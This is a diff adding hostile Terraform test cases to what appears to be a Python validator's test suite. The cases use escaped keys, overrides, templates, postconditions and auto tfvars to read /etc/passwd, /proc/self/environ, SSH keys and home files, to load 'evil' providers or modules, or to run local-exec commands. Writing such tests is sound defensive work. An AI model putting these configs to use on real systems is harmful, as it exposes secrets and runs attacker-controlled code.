@@ -515,6 +515,114 @@ HOSTILE: list[Case] = [
         "file_outside",
         {"o.tf.json": '{"locals":{"x":{"a ${file(\\"/etc/passwd\\")}":1}}}'},
     ),
+    (
+        "configuration_used_as_a_template",
+        "file_computed",
+        main('# ${file("/etc/passwd")}\noutput "x" {\n  value = templatefile("main.tf", {})\n}\n'),
+    ),
+    ("escaped_type", "foreign_provider", main('data "\\u0065xternal" "x" {\n  program = ["id"]\n}\n')),
+    (
+        "escaped_key",
+        "foreign_provider",
+        main(
+            'terraform {\n  required_providers {\n    google = { "s\\u006furce" = "evil/google" }\n  }\n}\n'
+        ),
+    ),
+    (
+        "conditional_source",
+        "foreign_provider",
+        main(
+            'terraform {\n  required_providers {\n    google = true ? { source = "evil/google" } : {}\n  }\n}\n'
+        ),
+    ),
+    (
+        "source_in_a_template",
+        "remote_module",
+        main('module "m" {\n  source = "${"git::https://evil.example/m"}"\n}\n'),
+    ),
+    (
+        "file_in_a_postcondition",
+        "file_outside",
+        main(
+            'resource "google_compute_network" "n" {\n  name = "n"\n  lifecycle {\n    postcondition {\n'
+            '      condition     = file("/proc/self/environ") == ""\n      error_message = file("/proc/self/environ")\n'
+            "    }\n  }\n}\n"
+        ),
+    ),
+    (
+        "file_in_a_dynamic_block",
+        "file_outside",
+        main(
+            'resource "google_compute_instance" "v" {\n  dynamic "x" {\n    for_each = [1]\n    content {\n'
+            '      y = base64encode(file("../../secret"))\n    }\n  }\n}\n'
+        ),
+    ),
+    (
+        "ssh_key_of_whoever_runs_this",
+        "file_outside",
+        main(VM % '  metadata = {\n    ssh-keys = "u:${file("~/.ssh/id_rsa.pub")}"\n  }'),
+    ),
+    (
+        "import_for_each_file_of_the_host",
+        "file_outside",
+        main(
+            'import {\n  for_each = fileset("/home", "**")\n  to = google_compute_network.n[each.key]\n  id = each.key\n}\n'
+        ),
+    ),
+    (
+        "provisioner_in_a_module_nobody_calls",
+        "provisioner",
+        {
+            "main.tf": "",
+            "spare/main.tf": 'resource "terraform_data" "x" {\n  provisioner "local-exec" {\n    command = "id"\n  }\n}\n',
+        },
+    ),
+    (
+        "state_in_another_store",
+        "backend",
+        main('terraform {\n  state_store "evil_store" {\n    provider "evil" {}\n  }\n}\n'),
+    ),
+    (
+        "json_remote_state",
+        "remote_state",
+        {
+            "d.tf.json": '{"data":[{"terraform_remote_state":{"x":{"backend":"http","config":{"address":"http://x"}}}}]}'
+        },
+    ),
+    (
+        "json_template_in_a_directive",
+        "file_outside",
+        {"o.tf.json": '{"output":{"x":{"value":"%{ if fileexists(\\"/etc/x\\") }y%{ endif }"}}}'},
+    ),
+    (
+        "json_required_providers_in_lists",
+        "foreign_provider",
+        {"v.tf.json": '{"terraform":[{"required_providers":[{"google":{"source":"evil/google"}}]}]}'},
+    ),
+    (
+        "values_in_an_auto_file",
+        "file_outside",
+        {
+            "main.tf": 'variable "f" {\n  default = "a.txt"\n}\noutput "x" {\n  value = file("${path.module}/${var.f}")\n}\n',
+            "z.auto.tfvars.json": '{"f": "../../etc/passwd"}',
+        },
+    ),
+    (
+        "path_given_to_a_module",
+        "file_outside",
+        {
+            "main.tf": 'module "m" {\n  source = "./m"\n  f = "/etc/passwd"\n}\n',
+            "m/main.tf": 'variable "f" {\n  default = "a.txt"\n}\noutput "x" {\n  value = file(var.f)\n}\n',
+        },
+    ),
+    (
+        "second_definition_in_an_override",
+        "file_outside",
+        {
+            "main.tf": 'locals {\n  f = "a.txt"\n}\noutput "x" {\n  value = file(local.f)\n}\n',
+            "override.tf": 'locals {\n  f = "/etc/passwd"\n}\n',
+        },
+    ),
 ]
 
 UNREADABLE: list[tuple[str, dict[str, str]]] = [
